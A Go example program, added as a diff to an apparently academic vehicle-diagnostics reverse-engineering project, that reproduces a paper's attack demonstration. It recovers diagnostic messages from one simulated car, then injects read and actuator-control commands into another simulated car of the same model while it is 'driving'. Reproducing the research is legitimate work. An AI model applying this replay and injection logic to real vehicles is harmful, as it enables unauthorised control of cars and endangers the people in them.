@@ -1,0 +1,122 @@
+// Attack replay (paper §9.3 / Table 13): reverse engineer a vehicle once,
+// then inject the recovered diagnostic messages into a *different* vehicle
+// of the same model while it is "running", and verify the actions trigger.
+//
+// This is the paper's threat demonstration: an attacker rents the same car
+// model, runs DP-Reverser against it, and can then unlock doors or drive
+// actuators on any car of that model through a compromised dongle.
+//
+// Run with:
+//
+//	go run ./examples/attackreplay
+package main
+
+import (
+	"fmt"
+	"log"
+	"time"
+
+	"dpreverser/internal/experiments"
+	"dpreverser/internal/kwp"
+	"dpreverser/internal/uds"
+	"dpreverser/internal/vehicle"
+)
+
+func main() {
+	// Step 1: the attacker's lab car — reverse engineer a Lexus NX300.
+	profile, _ := vehicle.ProfileByCar("Car D")
+	fmt.Printf("reverse engineering a rented %s ...\n", profile.Model)
+	run, err := experiments.RunCar(profile, experiments.Options{Quick: true, Seed: 23})
+	if err != nil {
+		log.Fatal(err)
+	}
+	defer run.Vehicle.Close()
+	fmt.Printf("recovered %d readable streams and %d control records\n\n",
+		len(run.Result.ESVs), len(run.Result.ECRs))
+
+	// Step 2: the victim car — same model, fresh instance, "driving".
+	victim := vehicle.Build(profile, nil)
+	defer victim.Close()
+	victim.Clock.Advance(90 * time.Second) // the car has been driving for a while
+
+	fmt.Printf("injecting into a running %s:\n", profile.Model)
+
+	// Replay a recovered read: the attacker learns live data.
+	for _, esv := range run.Result.ESVs {
+		if esv.Key.Proto != "UDS" || esv.Formula == nil {
+			continue
+		}
+		req, err := uds.BuildRDBIRequest(esv.Key.DID)
+		if err != nil {
+			log.Fatal(err)
+		}
+		resp := inject(victim, req)
+		if uds.IsPositiveResponse(resp, uds.SIDReadDataByIdentifier) {
+			records, err := uds.ParseRDBIResponse(resp, []uint16{esv.Key.DID})
+			if err == nil && len(records) == 1 {
+				raw := 0.0
+				for _, b := range records[0].Data {
+					raw = raw*256 + float64(b)
+				}
+				value := esv.Formula.Eval([]float64{raw})
+				fmt.Printf("  read  % X -> %s = %.2f %s (via recovered formula Y = %s)\n",
+					req, esv.Label, value, esv.Unit, esv.Formula)
+			}
+		}
+		break
+	}
+
+	// Replay a recovered control record: the attacker drives an actuator.
+	for _, ecr := range run.Result.ECRs {
+		if !ecr.PatternComplete() {
+			continue
+		}
+		adjust := append([]byte{kwp.SIDIOControlByLocalIdentifier, byte(ecr.ID), uds.IOShortTermAdjustment}, ecr.State...)
+		resp := inject(victim, adjust)
+		active := actuatorActive(victim, ecr.Label)
+		fmt.Printf("  drive % X -> %q responds %02X..., actuator %q active: %v\n",
+			adjust, ecr.Label, first(resp), ecr.Label, active)
+
+		// Return control, as the recovered pattern prescribes.
+		inject(victim, []byte{kwp.SIDIOControlByLocalIdentifier, byte(ecr.ID), uds.IOReturnControlToECU})
+		fmt.Printf("  return control -> actuator active: %v\n", actuatorActive(victim, ecr.Label))
+		break
+	}
+}
+
+// inject probes every ECU of the victim until one answers positively.
+func inject(v *vehicle.Vehicle, req []byte) []byte {
+	var last []byte
+	for _, b := range v.Bindings() {
+		client, err := vehicle.Connect(v, b)
+		if err != nil {
+			continue
+		}
+		resp, err := client.Request(req)
+		client.Close()
+		if err != nil {
+			continue
+		}
+		last = resp
+		if len(resp) > 0 && resp[0] == req[0]+0x40 {
+			return resp
+		}
+	}
+	return last
+}
+
+func actuatorActive(v *vehicle.Vehicle, name string) bool {
+	for _, e := range v.ECUs() {
+		if e.ActuatorActive(name) {
+			return true
+		}
+	}
+	return false
+}
+
+func first(b []byte) byte {
+	if len(b) == 0 {
+		return 0
+	}
+	return b[0]
+}
